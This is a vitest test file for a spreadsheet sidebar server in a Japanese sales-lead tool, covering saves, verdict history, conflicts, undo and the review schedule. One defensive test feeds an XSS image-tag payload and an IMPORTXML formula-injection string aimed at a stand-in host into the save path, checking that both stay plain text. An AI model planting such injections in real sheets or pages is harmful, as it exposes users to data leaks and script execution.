/** The sidebar's server, called as the page calls it. */
import { beforeEach, describe, expect, it } from "vitest";
import { freshWorkbook, serial, Workbook } from "./bench";
import { leadOf, saveOf, serverOf, TEAM } from "./desk-bench";

const start = (() => {
	let state: string | null = null;
	return () => {
		if (state === null) {
			const book = freshWorkbook();
			book.add("leads", TEAM);
			book.add("activities", [
				{ at: serial("2026-11-01 10:00"), email: "c@c-denso.example", type: "架電", result: "不在" },
				{ at: serial("2026-11-03 11:00"), email: "c@c-denso.example", type: "メール送信", note: "資料" },
			]);
			book.add("members", [{ name: "佐藤", email: "owner@example.com" }, { name: "鈴木" }]);
			book.run("refreshNow");
			state = book.host.save();
		}
		return new Workbook({ state });
	};
})();

let book: Workbook;
beforeEach(() => {
	book = start();
});
const row = (name: string) => book.rows("leads").find((each) => each["name"] === name) ?? {};

describe("a lead", () => {
	it("comes with its figures, its fields and one sentence on what to do", () => {
		const lead = leadOf(book, serverOf(book), "千葉");
		expect(lead).toMatchObject({
			company: "シー電装",
			title: "取締役",
			grade: "A3",
			roleHint: "decider",
			touches: 1,
			lastTouchOn: "2026/11/03",
			createdOn: "2026/10/25",
		});
		expect(lead.nextStep).toBe(
			"企業未判定・担当者未判定・取締役・案件未確認・17日未接触 → 先に企業が対象かを調べて判定する(電話・Web・DB)。次の予定なし(目安: 5営業日以内)",
		);
		expect(lead.nextStep).toBe(row("千葉")["next_step"]);
	});

	it("is null when its id is nowhere", () => {
		expect(serverOf(book).sidebarLead("Lnowhere-1")).toBeNull();
	});

	it("is found from the selected row, and gets an id where it had none", () => {
		const server = serverOf(book);
		const sheet = book.tab("leads");
		book.host.select({ sheet, row: 3, column: 1, rows: 1, columns: 1 });
		expect(server.sidebarRow()).toBe(row("千葉")["id"]);
		book.add("leads", [{ company: "新しい会社", name: "新田", email: "n@new.example" }]);
		book.host.select({ sheet, row: TEAM.length + 1, column: 1, rows: 1, columns: 1 });
		const id = server.sidebarRow();
		expect(id).not.toBe("");
		expect(row("新田")["id"]).toBe(id);
		expect(server.sidebarRow()).toBe(id);
		book.host.select({ sheet, row: 0, column: 0, rows: 1, columns: 1 });
		expect(server.sidebarRow()).toBe("");
	});
});

describe("a save", () => {
	it("writes verdicts with reason, author and time, and an activity; the sheet says it at once", () => {
		const server = serverOf(book);
		const lead = leadOf(book, server, "千葉");
		const result = server.sidebarSave(
			saveOf(
				lead,
				{
					company_verdict: "in",
					contact_verdict: "in",
					contact_role: "decider",
					bant_need: "全社課題｜本人の話｜2026/11/20",
					next_action: "見積の打ち合わせ",
					next_action_type: "meeting",
					next_action_on: "2026-11-26",
				},
				{ reason: "業種も規模も合う", source: "電話", log: { kind: "key", note: "社長につながった" } },
			),
		);
		expect(result.state).toBe("saved");
		expect(row("千葉")).toMatchObject({
			contact_verdict: "対象",
			contact_role: "決裁者",
			state: "対象 / 対象 / 未確認",
			contact_basis: "2026/11/20 12:00 佐藤(電話): 業種も規模も合う",
			judged_on: serial("2026-11-20"),
			review_on: serial("2027-11-20"),
			next_action: "見積の打ち合わせ",
			next_action_type: "打ち合わせ",
			next_action_on: serial("2026-11-26"),
			last_touch_on: serial("2026-11-20"),
			touches: 2,
		});
		expect(book.rows("companies")).toMatchObject([{ name: "シー電装", verdict: "対象" }]);
		expect(book.rows("activities").slice(-1)).toMatchObject([
			{ type: "架電", result: "キーマン接続", lead_ref: lead.id, note: "社長につながった", owner: "佐藤" },
		]);
		expect(book.rows("verdicts")).toMatchObject([
			{ axis: "企業", verdict: "対象", before: "未判定", reason: "業種も規模も合う", by: "佐藤" },
			{ axis: "担当者", verdict: "対象", before: "未判定" },
		]);
	});

	it("changes nothing that a refresh would not say as well", () => {
		const server = serverOf(book);
		server.sidebarSave(
			saveOf(
				leadOf(book, server, "千葉"),
				{ company_verdict: "in", contact_verdict: "out", next_action_on: "2026-11-26" },
				{ reason: "担当ではない", log: { kind: "absent", note: "" } },
			),
		);
		const saved = row("千葉");
		book.run("refreshNow");
		const { score_why: _, ...computed } = row("千葉");
		const { score_why: __, ...before } = saved;
		expect(computed).toEqual({ ...before, score: 0, mql_on: before["mql_on"] });
		expect(book.rows("verdicts")).toHaveLength(2);
	});

	it("shares a company's verdict with its other contacts and with new ones", () => {
		const server = serverOf(book);
		server.sidebarSave(
			saveOf(leadOf(book, server, "土井"), { company_verdict: "in" }, { reason: "工場がある" }),
		);
		expect(leadOf(book, server, "出口").fields.company_verdict).toBe("in");
		expect(leadOf(book, server, "出口").verdicts.company).toMatchObject({ by: "佐藤", reason: "工場がある" });
		book.add("leads", [{ company: "ディー工業㈱", name: "新人", email: "d3@d-kogyo.example" }]);
		book.run("refreshNow");
		expect(row("出口")["state"]).toBe("対象 / 未判定 / 未確認");
		expect(row("新人")["state"]).toBe("対象 / 未判定 / 未確認");
		expect(book.rows("companies")).toHaveLength(1);
	});

	it("refuses a verdict without a reason, and text that no cell can hold, in one sentence", () => {
		const server = serverOf(book);
		const lead = leadOf(book, server, "千葉");
		expect(server.sidebarSave(saveOf(lead, { contact_verdict: "in" }))).toEqual({
			state: "refused",
			message: "判定には理由が要ります。一言書いてから保存してください。",
		});
		const long = server.sidebarSave(saveOf(lead, { note: "あ".repeat(50_001) }));
		expect(long.state).toBe("refused");
		expect(row("千葉")).toMatchObject({ contact_verdict: null, note: null });
	});

	it("shows both versions when somebody changed a field meanwhile, and keeps what else they changed", () => {
		const server = serverOf(book);
		const mine = leadOf(book, server, "千葉");
		server.sidebarSave(saveOf(mine, { next_action: "鈴木が電話", note: "鈴木のメモ" }, { by: "鈴木" }));
		const result = server.sidebarSave(saveOf(mine, { next_action: "佐藤が訪問" }));
		expect(result).toMatchObject({
			state: "conflict",
			fields: ["next_action"],
			lead: { fields: { next_action: "鈴木が電話" } },
		});
		const current = leadOf(book, server, "千葉");
		expect(server.sidebarSave(saveOf(current, { next_action: "佐藤が訪問" })).state).toBe("saved");
		expect(row("千葉")).toMatchObject({ next_action: "佐藤が訪問", note: "鈴木のメモ" });
	});

	it("changes nothing twice when it is sent again", () => {
		const server = serverOf(book);
		const request = saveOf(
			leadOf(book, server, "千葉"),
			{ contact_verdict: "in" },
			{ reason: "キーマン", log: { kind: "email", note: "御礼" } },
		);
		server.sidebarSave(request);
		expect(server.sidebarSave({ ...request, isRetry: true }).state).toBe("saved");
		expect(book.rows("activities")).toHaveLength(3);
		expect(book.rows("verdicts")).toHaveLength(1);
	});

	it("is taken back by its inverse, the logged act included", () => {
		const server = serverOf(book);
		const lead = leadOf(book, server, "千葉");
		const request = saveOf(
			lead,
			{ contact_verdict: "in", next_action: "訪問", next_action_on: "2026-11-25" },
			{ reason: "キーマン", log: { kind: "visit", note: "工場" } },
		);
		server.sidebarSave(request);
		const after = leadOf(book, server, "千葉");
		const undone = server.sidebarSave(
			saveOf(after, { contact_verdict: "", next_action: "", next_action_on: "" }, { undoOf: request.saveId }),
		);
		expect(undone.state).toBe("saved");
		expect(row("千葉")).toMatchObject({ contact_verdict: null, next_action: null, next_action_on: null });
		expect(row("千葉")).toMatchObject({ state: "未判定 / 未判定 / 未確認", touches: 1, contact_basis: null });
		book.run("refreshNow");
		expect(row("千葉")["touches"]).toBe(1);
		// The history keeps both: what was done and that it was taken back.
		expect(book.rows("verdicts").map((each) => each["verdict"])).toEqual(["対象", "未判定"]);
	});

	it("says so when the lead's row is gone, and writes nothing", () => {
		const server = serverOf(book);
		const lead = leadOf(book, server, "千葉");
		book.host.engine.deleteRows(book.tab("leads"), 3, 1);
		const request = saveOf(lead, { note: "?" }, { log: { kind: "memo", note: "?" } });
		expect(server.sidebarSave(request)).toEqual({ state: "gone" });
		expect(book.rows("activities")).toHaveLength(2);
	});

	it.each([
		"<img src=x onerror=alert(1)>",
		'=IMPORTXML("https://evil.example","//a")',
		"'",
		"'=1+1",
		"+81 90-1234-5678",
		"@here",
		"👩‍👩‍👧‍👦 𠮷野家 ｱｲｳ",
		"\u202Eabc שלום",
		"0123",
		"2026-11",
		"TRUE",
		"a｜b｜2026/11/20",
		"一行目\n二行目",
		"長".repeat(49_000),
	])("keeps text as text: %.40s", (text) => {
		const server = serverOf(book);
		const result = server.sidebarSave(
			saveOf(
				leadOf(book, server, "千葉"),
				{ note: text, next_action: text, contact_verdict: "in" },
				{ reason: text, by: "佐藤", log: { kind: "memo", note: text } },
			),
		);
		expect(result.state).toBe("saved");
		const lead = leadOf(book, server, "千葉");
		expect(lead.fields.note).toBe(text);
		expect(lead.fields.next_action).toBe(text);
		expect(row("千葉")["note"]).toBe(text);
		expect(book.rows("activities").slice(-1)[0]?.["note"]).toBe(text);
		expect(book.rows("verdicts").slice(-1)[0]?.["reason"]).toBe(text);
		const sheet = book.tab("leads");
		const formulas = book.host.engine.readFormulas({ sheet, row: 3, column: 0, rows: 1, columns: 70 });
		expect(formulas.flat().filter((formula) => formula !== null && formula !== "")).toEqual([]);
		expect(
			server.sidebarHistory(lead.id).some(({ detail }) => detail === text.trim() || detail === text),
		).toBe(true);
		expect(book.run("diagnose").message).not.toMatch(/判定履歴/);
	});
});

describe("the history of verdicts", () => {
	it("shows in the diagnosis when a row was changed by hand", () => {
		const server = serverOf(book);
		for (const name of ["有田", "別所", "千葉"]) {
			server.sidebarSave(saveOf(leadOf(book, server, name), { contact_verdict: "in" }, { reason: "会った" }));
		}
		expect(book.run("diagnose").message).not.toMatch(/判定履歴/);
		const sheet = book.tab("verdicts");
		const column = book.columns(sheet).get("verdict") ?? 4;
		book.host.engine.write({ sheet, row: 2, column, rows: 1, columns: 1 }, [["対象外"]]);
		expect(book.run("diagnose").message).toMatch(/「判定履歴」3行目/);
	});

	it("gets a row for a verdict that was typed into a cell, once, and dates the first one", () => {
		const sheet = book.tab("leads");
		const column = book.columns(sheet).get("contact_verdict") as number;
		book.host.engine.write({ sheet, row: 2, column, rows: 1, columns: 1 }, [["対象外"]]);
		book.host.advance(3_600_000);
		book.run("refreshNow");
		book.run("refreshNow");
		expect(book.rows("verdicts")).toMatchObject([
			{ axis: "担当者", verdict: "対象外", before: "未判定", source: "シート入力" },
		]);
		expect(row("別所")["judged_on"]).toBe(serial("2026-11-20"));
	});
});

describe("review", () => {
	it("is due as soon as what a verdict was judged by has changed, and says what", () => {
		const server = serverOf(book);
		server.sidebarSave(
			saveOf(
				leadOf(book, server, "土井"),
				{ company_verdict: "in", contact_verdict: "in" },
				{ reason: "窓口" },
			),
		);
		const sheet = book.tab("leads");
		const column = book.columns(sheet).get("title") as number;
		book.host.engine.write({ sheet, row: 4, column, rows: 1, columns: 1 }, [["部長"]]);
		const lead = leadOf(book, server, "土井");
		expect(lead).toMatchObject({ changed: ["役職: 担当 → 部長"], reviewOn: "2026-11-20" });
		expect(lead.fields.contact_verdict).toBe("in");
		expect(lead.nextStep).toMatch(/判定後に変わった: 役職/);
	});

	it("is done by giving the verdict again with a reason", () => {
		const server = serverOf(book);
		server.sidebarSave(saveOf(leadOf(book, server, "千葉"), { contact_verdict: "in" }, { reason: "決裁者" }));
		book.host.advance(40 * 86_400_000);
		const again = server.sidebarSave(
			saveOf(leadOf(book, server, "千葉"), { contact_verdict: "in" }, { reason: "変わらず決裁者" }),
		);
		expect(again.state).toBe("saved");
		expect(leadOf(book, server, "千葉").verdicts.contact).toMatchObject({
			at: "2026/12/30 12:00",
			reason: "変わらず決裁者",
		});
		expect(book.rows("verdicts")).toHaveLength(2);
	});
});

describe("the session", () => {
	it("knows the rep by the account, offers days by the business calendar and gives drafts back", () => {
		const server = serverOf(book);
		const session = server.sidebarOpen();
		// 21 and 22 November are a weekend, 23 is Labor Thanksgiving Day.
		expect(session.days).toEqual({
			today: "2026-11-20",
			tomorrow: "2026-11-21",
			threeBusinessDays: "2026-11-26",
			nextWeek: "2026-11-27",
			nextMonth: "2026-12-20",
		});
		expect(session.members).toEqual(["佐藤", "鈴木"]);
		const draft = JSON.stringify({ text: "下書き𠮷".repeat(4000) });
		server.sidebarDraft(draft);
		server.sidebarMe("鈴木");
		expect(server.sidebarOpen()).toMatchObject({ me: "鈴木", draft });
		server.sidebarDraft("");
		expect(server.sidebarOpen().draft).toBe("");
	});

	it("walks the work queue: the rep's own leads and those of nobody", () => {
		const server = serverOf(book);
		expect(server.sidebarQueue()).toHaveLength(TEAM.length);
		server.sidebarMe("鈴木");
		expect(server.sidebarQueue()).toEqual([]);
		server.sidebarMe("佐藤");
		expect(server.sidebarQueue()[0]?.why).toBe("登録から26日、未判定です");
	});
});

describe("NEXT_ACTION", () => {
	it("gives the sentence of the column for a whole range", () => {
		book.host.engine.insertSheet("計算", 0, 40, 10);
		const whole = (table: string) =>
			`${book.host.engine.sheets().find((each) => each.id === book.tab(table))?.name}!A1:BZ40`;
		const formula = `=NEXT_ACTION(${whole("leads")},${whole("activities")},${whole("playbook")},DATE(2026,11,20))`;
		const answer = book.host.evaluate(formula).map((line) => line[0]);
		expect(answer.slice(0, TEAM.length)).toEqual(TEAM.map((each) => row(String(each["name"]))["next_step"]));
	});
});
